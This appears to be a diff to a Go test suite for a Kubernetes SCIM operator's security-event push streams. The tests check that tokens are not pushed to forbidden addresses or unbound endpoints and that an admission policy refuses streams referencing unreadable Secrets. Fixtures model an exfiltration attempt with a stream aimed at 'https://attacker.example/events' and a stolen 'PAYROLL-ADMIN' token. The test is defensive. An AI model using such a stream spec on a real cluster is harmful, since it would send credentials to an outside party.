@@ -5,17 +5,26 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
 
 	"github.com/go-jose/go-jose/v4"
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
+	admissionv1 "k8s.io/api/admissionregistration/v1"
 	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	apimeta "k8s.io/apimachinery/pkg/api/meta"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/rest"
 	"sigs.k8s.io/controller-runtime/pkg/client"
+	"sigs.k8s.io/yaml"
 
 	scimv1 "github.com/nhi-dev/scim-operator/api/v1alpha1"
+	"github.com/nhi-dev/scim-operator/internal/controller/streams"
 	"github.com/nhi-dev/scim-operator/test/setreceiver"
 	"github.com/nhi-dev/scim-operator/test/ssfreceiver"
 )
@@ -36,7 +45,8 @@ func transmitterKeys(ctx context.Context) jose.JSONWebKeySet {
 // pushStream declares a push stream to url in ns whose Authorization header is auth.
 func pushStream(ctx context.Context, ns, name, url, auth string) *scimv1.SecurityEventStream {
 	GinkgoHelper()
-	Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-auth"},
+	Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-auth",
+		Annotations: map[string]string{streams.AnnotationPushEndpoint: url}},
 		StringData: map[string]string{"header": auth}})).To(Succeed())
 	st := &scimv1.SecurityEventStream{
 		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
@@ -89,33 +99,64 @@ var _ = Describe("Push streams", func() {
 		Expect(recv.Rejected()).To(BeEmpty())
 	})
 
-	It("refuse to push a tenant's tokens to an address namespaced targets may not reach; the cluster's stream may", func(ctx SpecContext) {
+	It("refuse to push to an address namespaced targets may not reach, whoever declared the stream", func(ctx SpecContext) {
 		// 127.0.0.2 is loopback, which the suite does not allow namespaced targets (only 127.0.0.1).
 		recv := setreceiver.New(setreceiver.Options{Issuer: issuer, Audience: "https://siem.example/", Keys: transmitterKeys(ctx)})
 		Expect(recv.Start("127.0.0.2:0")).To(Succeed())
 		DeferCleanup(recv.Stop)
 		ns := newNamespace(ctx)
 		createTarget(ctx, ns, "app")
-		pushStream(ctx, ns, "internal", recv.URL(), "Bearer x")
+		tenant := pushStream(ctx, ns, "internal", recv.URL(), "Bearer x")
 		cluster := pushStream(ctx, operatorNS, "soc-"+ns, recv.URL(), "Bearer x")
-		DeferCleanup(func(ctx context.Context) { _ = k8s.Delete(ctx, cluster) })
 
 		si := provisioned(ctx, ns, "batch", "app")
 		Expect(k8s.Delete(ctx, si)).To(Succeed())
+		for _, st := range []*scimv1.SecurityEventStream{tenant, cluster} {
+			Eventually(func() []string { return eventsOn(ctx, st) }).Should(ContainElement(ContainSubstring("resolves to an address streams may not reach")))
+		}
+		Consistently(recv.Requests, "1s").Should(BeZero())
+
+		By("the identity waits for its tokens until the streams go")
+		Expect(gone(ctx, si)()).To(BeFalse())
+		Expect(k8s.Delete(ctx, tenant)).To(Succeed())
+		Expect(k8s.Delete(ctx, cluster)).To(Succeed())
 		Eventually(gone(ctx, si)).Should(BeTrue())
-		Expect(recv.Accepted()).To(HaveLen(1), "only the cluster's stream reached it")
-		Expect(recv.Accepted()[0].Issuer).To(Equal(issuer))
-		Eventually(func() []string {
-			var evs corev1.EventList
-			Expect(k8s.List(ctx, &evs, client.InNamespace(ns))).To(Succeed())
-			var msgs []string
-			for _, e := range evs.Items {
-				msgs = append(msgs, e.Message)
-			}
-			return msgs
-		}).Should(ContainElement(ContainSubstring("an address a namespace's stream may not reach")))
+	})
+
+	It("send an authorization Secret only to the endpoint it is bound to", func(ctx SpecContext) {
+		ns := newNamespace(ctx)
+		createTarget(ctx, ns, "app")
+		recv := setreceiver.New(setreceiver.Options{Issuer: issuer + "/namespaces/" + ns, Audience: "https://siem.example/", Keys: transmitterKeys(ctx)})
+		Expect(recv.Start("127.0.0.1:0")).To(Succeed())
+		DeferCleanup(recv.Stop)
+		// A Secret the stream's author did not make for this stream (another target's token).
+		Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payroll-token"},
+			StringData: map[string]string{"token": "PAYROLL-ADMIN"}})).To(Succeed())
+		st := &scimv1.SecurityEventStream{
+			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "exfil"},
+			Spec: scimv1.SecurityEventStreamSpec{Audience: []string{"https://siem.example/"}, EventsRequested: []string{riscPurged},
+				Delivery: scimv1.StreamDeliverySpec{Method: scimv1.StreamPush, EndpointURL: recv.URL(),
+					AuthorizationSecretRef: &scimv1.SecretKeySelector{Name: "payroll-token", Key: "token"}}},
+		}
+		Expect(k8s.Create(ctx, st)).To(Succeed())
+		Expect(k8s.Delete(ctx, provisioned(ctx, ns, "batch", "app"))).To(Succeed())
+		Eventually(func() []string { return eventsOn(ctx, st) }).Should(ContainElement(ContainSubstring("is not bound to this endpoint")))
+		Consistently(recv.Requests, "1s").Should(BeZero())
 	})
 })
+
+// eventsOn are the messages of the Events recorded on o.
+func eventsOn(ctx context.Context, o client.Object) []string {
+	var evs corev1.EventList
+	Expect(k8s.List(ctx, &evs, client.InNamespace(o.GetNamespace()))).To(Succeed())
+	var msgs []string
+	for _, e := range evs.Items {
+		if e.InvolvedObject.Name == o.GetName() && e.InvolvedObject.Kind == "SecurityEventStream" {
+			msgs = append(msgs, e.Message)
+		}
+	}
+	return msgs
+}
 
 var _ = Describe("A stream's state", func() {
 	It("holds tokens while paused, records none while disabled, and delivers what it held once enabled", func(ctx SpecContext) {
@@ -218,6 +259,25 @@ var _ = Describe("A stream's state", func() {
 	})
 })
 
+var _ = Describe("A token nobody takes", func() {
+	It("is given up after the maximum age, and the deleted identity goes then", func(ctx SpecContext) {
+		ns := newNamespace(ctx)
+		createTarget(ctx, ns, "app")
+		r, err := ssfreceiver.Discover(ctx, tlsClient, issuer+"/namespaces/"+ns, receiverToken(ctx, ns, "siem", receiverRules...))
+		Expect(err).NotTo(HaveOccurred())
+		_, err = r.CreateStream(ctx, []string{riscPurged}, nil)
+		Expect(err).NotTo(HaveOccurred())
+		si := provisioned(ctx, ns, "forgotten", "app")
+		Expect(k8s.Delete(ctx, si)).To(Succeed())
+		Eventually(func() []scimv1.StreamEvent { return streamMarks(ctx, si) }).Should(HaveLen(1))
+		// Nothing else touches the identity: the give-up is scheduled, not left to a resync.
+		Eventually(gone(ctx, si), maxAge+15*time.Second).Should(BeTrue())
+		var evs corev1.EventList
+		Expect(k8s.List(ctx, &evs, client.InNamespace(ns))).To(Succeed())
+		Expect(evs.Items).To(ContainElement(HaveField("Reason", scimv1.ReasonSecurityEventGivenUp)))
+	})
+})
+
 var _ = Describe("The signing key", func() {
 	It("is rotated without a restart; the old key stays published", Serial, func(ctx SpecContext) {
 		before := transmitterKeys(ctx)
@@ -254,3 +314,62 @@ var _ = Describe("The signing key", func() {
 		pollUntil(ctx, r, func(evs []ssfreceiver.Event) bool { return len(evs) == 1 })
 	})
 })
+
+var _ = Describe("The secret-access admission policy", func() {
+	It("refuses a stream that names a Secret its author may not read", func(ctx SpecContext) {
+		ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "ssf-policy-", Labels: map[string]string{"ssf-test/secret-access": "on"}}}
+		Expect(k8s.Create(ctx, ns)).To(Succeed())
+		installSecretAccess(ctx, ns.Labels)
+		Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "payroll-token"},
+			StringData: map[string]string{"token": "PAYROLL-ADMIN"}})).To(Succeed())
+		// mallory may write streams in the namespace, and read no Secret.
+		Expect(k8s.Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "mallory"}, Rules: receiverRules})).To(Succeed())
+		Expect(k8s.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "mallory"},
+			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "mallory"},
+			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "mallory"}}})).To(Succeed())
+		cfg := rest.CopyConfig(testEnv.Config)
+		cfg.Impersonate = rest.ImpersonationConfig{UserName: "mallory"}
+		mallory, err := client.New(cfg, client.Options{Scheme: scheme})
+		Expect(err).NotTo(HaveOccurred())
+		stream := func(secret string) *scimv1.SecurityEventStream {
+			return &scimv1.SecurityEventStream{
+				ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, GenerateName: "exfil-"},
+				Spec: scimv1.SecurityEventStreamSpec{Audience: []string{"https://attacker.example/"},
+					Delivery: scimv1.StreamDeliverySpec{Method: scimv1.StreamPush, EndpointURL: "https://attacker.example/events",
+						AuthorizationSecretRef: &scimv1.SecretKeySelector{Name: secret, Key: "token"}}},
+			}
+		}
+		Eventually(func() error { return mallory.Create(ctx, stream("payroll-token"), client.DryRunAll) }).
+			Should(MatchError(ContainSubstring("user mallory may not get Secret " + ns.Name + "/payroll-token (spec.delivery.authorizationSecretRef)")))
+		By("a stream without a Secret, and a poll stream, are admitted")
+		plain := stream("")
+		plain.Spec.Delivery.AuthorizationSecretRef = nil
+		Expect(mallory.Create(ctx, plain)).To(Succeed())
+		Eventually(func() error { // the operator adds its finalizer meanwhile
+			if err := mallory.Get(ctx, client.ObjectKeyFromObject(plain), plain); err != nil {
+				return err
+			}
+			plain.Spec.Delivery = scimv1.StreamDeliverySpec{Method: scimv1.StreamPoll}
+			return mallory.Update(ctx, plain)
+		}).Should(Succeed())
+	})
+})
+
+// installSecretAccess installs config/admission's secret-access policy for the namespaces with
+// labels, until the spec ends.
+func installSecretAccess(ctx context.Context, labels map[string]string) {
+	GinkgoHelper()
+	raw, err := os.ReadFile(filepath.Join("..", "..", "..", "config", "admission", "secret-access-policy.yaml"))
+	Expect(err).NotTo(HaveOccurred())
+	docs := strings.Split(strings.ReplaceAll(string(raw), "$(SCIM_OPERATOR_NAMESPACE)", operatorNS), "\n---\n")
+	Expect(docs).To(HaveLen(2))
+	policy, binding := &admissionv1.ValidatingAdmissionPolicy{}, &admissionv1.ValidatingAdmissionPolicyBinding{}
+	Expect(yaml.UnmarshalStrict([]byte(docs[0]), policy)).To(Succeed())
+	Expect(yaml.UnmarshalStrict([]byte(docs[1]), binding)).To(Succeed())
+	policy.Name, binding.Name, binding.Spec.PolicyName = "ssf-test-secret-access", "ssf-test-secret-access", "ssf-test-secret-access"
+	binding.Spec.MatchResources = &admissionv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchLabels: labels}}
+	for _, o := range []client.Object{policy, binding} {
+		Expect(k8s.Create(ctx, o)).To(Succeed())
+		DeferCleanup(func(ctx context.Context) { Expect(k8s.Delete(ctx, o)).To(Succeed()) })
+	}
+}
